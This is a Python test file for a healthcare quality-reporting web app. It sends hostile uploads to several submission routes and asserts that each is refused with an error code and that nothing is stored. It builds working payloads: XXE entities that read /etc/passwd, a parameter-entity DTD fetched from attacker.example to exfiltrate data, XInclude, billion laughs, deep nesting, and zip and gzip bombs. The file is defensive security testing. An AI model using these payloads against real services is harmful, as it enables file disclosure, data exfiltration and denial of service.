"""Hostile files through every HTTP route that takes a submission file, not only the parsers
(tests/fuzz and tests/unit/intake do those): XXE (internal subset, parameter entities, an
external DTD, in UTF-16), billion laughs, XInclude, deep nesting, wrong encodings (UTF-16 and
UTF-32 with and without a BOM, Latin-1, a UTF-8 BOM, invalid UTF-8), duplicate keys, NaN and
absurd numbers, zip bombs (uploads are never unpacked: a .zip, and zips named .json and .xml),
a gzip file, bodies over the limits (with and without Content-Length) and a gzip bomb sent as
``Content-Encoding: gzip`` (never inflated). Routes: the practice's Reporting Overview upload,
the registry upload, the Submissions API's validator and its create call. Each file is refused
with a code and nothing is stored (a registry upload keeps a refused file only as its error
report, by design: the submissions and elections tables are unchanged)."""

from __future__ import annotations

import gzip
import io
import json
import re
import tracemalloc
import zipfile
from functools import cache
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from tests.support.access_http import sign_in
from tests.support.elections_world import PASSWORD
from tests.support.hostile import REGISTRY, Site, app_for, raw_request, site, stored

from openqpp.batch.demo import MIAMI_MEDICAL

__all__ = ["site"]

PASSWD = "root:x:0:0"
CODE = re.compile(r"\b(OQ-[A-Z]+-[0-9A-Z]+|CT[0-9]{3})\b")
PRACTICE_UPLOAD = f"/eligibility-reporting/2022/practices/{MIAMI_MEDICAL}/reporting/upload"
REGISTRY_UPLOADS = f"/organisations/registry/{REGISTRY}/uploads"
VALIDATE = "/api/submissions/public/validate-submission"
CREATE = "/api/submissions/submissions"
SUBMISSION_TABLES = (
    "elections",
    "submissions",
    "measurement_sets",
    "measurements",
    "submission_receipts",
    "public_reporting_opt_outs",
)
GROUP = (
    '{"entityType": "group", "taxpayerIdentificationNumber": "' + MIAMI_MEDICAL + '", '
    '"performanceYear": 2022, "note": "Clínica São José", "measurementSets": []}'
)


def _zip(name: str, size: int = 32 << 20) -> bytes:
    """``size`` bytes of zeros deflated into about a thousandth of that."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w") as member,
    ):
        chunk = b"\0" * (1 << 20)
        for _ in range(size >> 20):
            member.write(chunk)
    return buffer.getvalue()


def _gzip(size: int) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", compresslevel=9) as out:
        chunk = b" " * (1 << 20)
        for _ in range(size >> 20):
            out.write(chunk)
    return buffer.getvalue()


XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def hostile(name: str) -> bytes:
    """The file called ``name`` in `EXPECTED` (made when first asked for: the bombs take a
    moment to compress)."""
    return _hostile()[name]


@cache
def _hostile() -> dict[str, bytes]:
    return {
        "xxe-internal-subset.xml": (
            XML_HEAD + '<!DOCTYPE ClinicalDocument [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
            '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&e;</title></ClinicalDocument>'
        ).encode(),
        "xxe-parameter-entity.xml": (
            XML_HEAD + '<!DOCTYPE r [<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
            '<!ENTITY % dtd SYSTEM "http://attacker.example/exfil.dtd"> %dtd;]>\n<r/>'
        ).encode(),
        "external-dtd.xml": (
            XML_HEAD + '<!DOCTYPE ClinicalDocument SYSTEM "http://attacker.example/x.dtd">\n'
            '<ClinicalDocument xmlns="urn:hl7-org:v3"/>'
        ).encode(),
        "billion-laughs.xml": (
            XML_HEAD
            + '<!DOCTYPE lolz [<!ENTITY lol "lol">'
            + "".join(
                f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                for i in range(1, 10)
            )
            + "]>\n<lolz>&lol9;</lolz>"
        ).encode(),
        "xxe-utf16.xml": (
            '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM '
            '"file:///etc/passwd">]>\n<x>&e;</x>'
        ).encode("utf-16"),
        "xinclude.xml": (
            b'<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></ClinicalDocument>'
        ),
        "deep-nesting.xml": b"<a>" * 100_000 + b"</a>" * 100_000,
        "invalid-utf8.xml": (
            XML_HEAD.encode() + b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>\xc3\x28\xff'
            b"</title></ClinicalDocument>"
        ),
        "latin1-declared-utf8.xml": (
            XML_HEAD + '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Clínica São José</title>'
            "</ClinicalDocument>"
        ).encode("latin-1"),
        "utf16-with-bom.json": GROUP.encode("utf-16"),
        "utf16-without-bom.json": GROUP.encode("utf-16-le"),
        "utf32.json": GROUP.encode("utf-32"),
        "latin1.json": GROUP.encode("latin-1"),
        "utf8-bom.json": b"\xef\xbb\xbf" + GROUP.encode(),
        "invalid-utf8.json": GROUP.encode().replace("í".encode(), b"\xc3\x28\xff"),
        "deep-nesting.json": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "duplicate-keys.json": GROUP.replace("{", '{"performanceYear": 2019, ', 1).encode(),
        "nan.json": GROUP.replace("2022", "NaN").encode(),
        "huge-number.json": GROUP.replace("2022", "9" * 5000).encode(),
        "zip-bomb.zip": _zip("submission.json"),
        "zip-bomb-named.json": _zip("submission.json"),
        "zip-bomb-named.xml": _zip("submission.xml"),
        "gzip-bomb.json.gz": _gzip(32 << 20),
    }


EXPECTED = {  # each a file no route may accept, named as an upload would be
    "xxe-internal-subset.xml": "OQ-XML-002",
    "xxe-parameter-entity.xml": "OQ-XML-002",
    "external-dtd.xml": "OQ-XML-002",
    "billion-laughs.xml": "OQ-XML-002",
    "xxe-utf16.xml": "OQ-XML-002",
    "xinclude.xml": "CT005",
    "deep-nesting.xml": "OQ-XML-003",
    "invalid-utf8.xml": "CT002",
    "latin1-declared-utf8.xml": "CT002",
    "utf16-with-bom.json": "OQ-JSON-002",
    "utf16-without-bom.json": "OQ-JSON-002",
    "utf32.json": "OQ-JSON-002",
    "latin1.json": "OQ-JSON-002",
    "utf8-bom.json": "OQ-JSON-010",
    "invalid-utf8.json": "OQ-JSON-002",
    "deep-nesting.json": "OQ-JSON-005",
    "duplicate-keys.json": "OQ-JSON-004",
    "nan.json": "OQ-JSON-006",
    "huge-number.json": "OQ-JSON-007",
    "zip-bomb.zip": "CT002",
    "zip-bomb-named.json": "OQ-JSON-002",
    "zip-bomb-named.xml": "CT002",
    "gzip-bomb.json.gz": "CT002",
}
"""The code each file is refused with where it is read as a file (by its content, else its
name): the XML rules of intake/qrda3/xml.py, the JSON rules of intake/qpp_json.py, CMS's
converter codes (CT002 not XML, CT005 not a QRDA III document)."""


def _codes(text: str) -> set[str]:
    return set(CODE.findall(text))


def _submissions(site: Site) -> dict[str, int]:
    counts = stored(site.world)
    return {table: counts[table] for table in SUBMISSION_TABLES}


@pytest.fixture(scope="module")
def practice(site: Site) -> tuple[TestClient, str]:
    return site.signed_in("maria.garcia")


@pytest.fixture(scope="module")
def registry(site: Site) -> tuple[TestClient, str]:
    return site.signed_in("alex.chen")


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_the_practice_upload_refuses_a_hostile_file_with_a_code_and_stores_nothing(
    site: Site, practice: tuple[TestClient, str], name: str
) -> None:
    client, csrf = practice
    before = stored(site.world)
    response = client.post(
        PRACTICE_UPLOAD,
        data={"csrf_token": csrf},
        files={"file": (name, hostile(name), "application/octet-stream")},
    )
    assert 400 <= response.status_code < 500, (name, response.status_code)
    assert response.headers["content-type"].startswith("text/html")
    assert EXPECTED[name] in _codes(response.text), response.text[-2000:]
    assert PASSWD not in response.text
    assert stored(site.world) == before


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_the_registry_upload_keeps_a_hostile_file_only_as_its_coded_error_report(
    site: Site, registry: tuple[TestClient, str], name: str
) -> None:
    client, csrf = registry
    before = _submissions(site)
    response = client.post(
        REGISTRY_UPLOADS,
        data={"csrf_token": csrf, "year": "2022"},
        files=[("files", (name, hostile(name), "application/octet-stream"))],
        follow_redirects=False,
    )
    assert response.status_code in (303, 400, 413, 422), (name, response.status_code)
    if response.status_code == 303:
        upload_id = response.headers["location"].rsplit("/", 1)[1]
        with site.world.factory() as session:
            ok, submission, report = session.execute(
                text("SELECT ok, submission_json, report FROM upload_files WHERE upload_id = :id"),
                {"id": upload_id},
            ).one()
        assert not ok
        assert submission is None
        assert EXPECTED[name] in _codes(json.dumps(report)), report
        download = client.get(f"{response.headers['location']}/files/1/report")
        assert download.status_code == 200
        assert PASSWD not in download.text
    else:
        assert _codes(response.text)
    assert _submissions(site) == before


@pytest.mark.parametrize("name", sorted(EXPECTED))
@pytest.mark.parametrize("route", [VALIDATE, CREATE])
def test_the_submissions_api_refuses_a_hostile_body_with_coded_details_and_stores_nothing(
    site: Site, route: str, name: str
) -> None:
    before = stored(site.world)
    kind = "application/xml" if name.endswith(".xml") else "application/json"
    response = site.anonymous().post(
        route,
        content=hostile(name),
        headers={**site.practice_token, "Content-Type": kind},
    )
    assert 400 <= response.status_code < 500, (name, response.status_code)
    error = response.json()["error"]
    assert error["code"] == "OQ-SUB-100"
    codes = {detail["code"] for detail in error["details"]}
    if name.endswith((".zip", ".gz")):  # sent as JSON: bytes that are not UTF-8 JSON
        assert codes == {"OQ-JSON-002"}, codes
    elif route == VALIDATE or name.endswith(".json"):
        assert codes == {EXPECTED[name]}, codes
    else:  # the create call takes QPP JSON only
        assert codes <= {"OQ-JSON-002", "OQ-JSON-003"}, codes
    assert PASSWD not in response.text
    assert stored(site.world) == before


# ---------------------------------------------------------------- size and compression


def _chunked(data: bytes, size: int = 64 << 10) -> Any:
    """A body without Content-Length (Transfer-Encoding: chunked)."""
    for start in range(0, len(data), size):
        yield data[start : start + size]


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
def test_a_body_over_the_limit_is_refused_413_with_a_code(site: Site, declared: bool) -> None:
    """1 MiB limit: a 2 MiB JSON body, with its length declared or streamed in chunks."""
    app = app_for(site.world.url, max_request_bytes=1 << 20)
    body = b'{"entityType": "group", "pad": "' + b"x" * (2 << 20) + b'"}'
    before = stored(site.world)
    response = TestClient(app).post(
        VALIDATE,
        content=body if declared else _chunked(body),
        headers={**site.practice_token, "Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert response.json()["error"]["code"]
    assert stored(site.world) == before


@pytest.mark.parametrize("route", ["practice", "registry"])
def test_a_chunked_upload_over_the_limit_is_refused_as_it_streams_in(
    site: Site, route: str
) -> None:
    """The two multipart upload pages with no Content-Length to check first (64 KiB limit per
    file): 40 MiB sent in 64 KiB chunks is refused 413 with its code as soon as the page's cap
    has arrived (practice: one file; registry: 50 files), not after the form parser spooled
    all of it to disk, and nothing is stored."""
    limit = 64 << 10
    app = app_for(site.world.url, max_request_bytes=limit, upload_max_file_bytes=limit)
    client = TestClient(app)
    csrf = sign_in(client, "maria.garcia" if route == "practice" else "alex.chen", PASSWORD)
    cookies = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    boundary = "chunked-boundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{csrf}\r\n'
        + (f'--{boundary}\r\nContent-Disposition: form-data; name="year"\r\n\r\n2022\r\n')
        + f'--{boundary}\r\nContent-Disposition: form-data; name="'
        + ("file" if route == "practice" else "files")
        + '"; filename="big.json"\r\nContent-Type: application/json\r\n\r\n{"pad": "'
    ).encode()
    pulled = 0

    def body() -> Any:
        nonlocal pulled
        yield head
        chunk = b"x" * (64 << 10)
        for _ in range(640):  # 40 MiB
            pulled += len(chunk)
            yield chunk

    before = stored(site.world)
    response = raw_request(
        app,
        "POST",
        (PRACTICE_UPLOAD if route == "practice" else REGISTRY_UPLOADS).encode(),
        headers=[
            (b"content-type", f"multipart/form-data; boundary={boundary}".encode()),
            (b"cookie", cookies.encode()),
            (b"x-forwarded-proto", b"http"),
        ],
        body=body(),
    )
    assert response.status_code == 413, response.text[-2000:]
    assert ("OQ-SUB-202" if route == "practice" else "OQ-UPLOAD-002") in " ".join(
        _codes(response.text)
    ), response.text[-2000:]
    cap = limit * (51 if route == "registry" else 1) + (1 << 20)  # the page's cap, generously
    assert pulled <= cap + (64 << 10), (pulled, cap)  # and at most the chunk that crossed it
    assert stored(site.world) == before


GZIP_BOMB_SIZE = 256 << 20


@pytest.fixture(scope="module")
def gzip_bomb() -> bytes:
    """256 MiB of spaces in about 256 KiB."""
    return _gzip(GZIP_BOMB_SIZE)


@pytest.mark.parametrize("route", [VALIDATE, CREATE])
def test_a_gzip_encoded_body_is_refused_not_inflated(
    site: Site, gzip_bomb: bytes, route: str
) -> None:
    """``Content-Encoding: gzip`` is not decoded: the body is read as sent (compressed bytes,
    not JSON) and refused with a code; the peak memory of the request stays far below the
    inflated size."""
    before = stored(site.world)
    client = site.anonymous()
    tracemalloc.start()
    try:
        response = client.post(
            route,
            content=gzip_bomb,
            headers={
                **site.practice_token,
                "Content-Type": "application/json",
                "Content-Encoding": "gzip",
            },
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert 400 <= response.status_code < 500
    assert response.json()["error"]["code"]
    assert peak < GZIP_BOMB_SIZE // 8, peak
    assert stored(site.world) == before


def test_a_gzip_encoded_upload_is_refused_not_inflated(
    site: Site, practice: tuple[TestClient, str], gzip_bomb: bytes
) -> None:
    client, csrf = practice
    before = stored(site.world)
    request = client.build_request(
        "POST",
        PRACTICE_UPLOAD,
        data={"csrf_token": csrf},
        files={"file": ("bomb.json", gzip_bomb, "application/json")},
    )
    request.headers["Content-Encoding"] = "gzip"
    tracemalloc.start()
    try:
        response = client.send(request)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert 400 <= response.status_code < 500
    assert _codes(response.text)
    assert peak < GZIP_BOMB_SIZE // 8, peak
    assert stored(site.world) == before


def test_an_oversized_roster_is_refused_as_it_streams_in_not_after(site: Site) -> None:
    """The public roster call (no token needed): 50 MB of CSV sent in 64 KB chunks without a
    Content-Length is refused 413 OQ-ROSTER-004 once past its 2 MB limit; the request never
    holds more than a few MB (it read the whole body before)."""
    row = f"{MIAMI_MEDICAL},1234567893\n".encode()
    chunk = row * ((64 << 10) // len(row))

    def body() -> Any:
        yield b"tin,npi\n"
        for _ in range((50 << 20) // len(chunk)):
            yield chunk

    tracemalloc.start()
    try:
        response = raw_request(
            site.app,
            "POST",
            b"/api/eligibility/roster",
            headers=[(b"content-type", b"text/csv")],
            body=body(),
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "OQ-ROSTER-004"
    assert peak < 10 << 20, peak
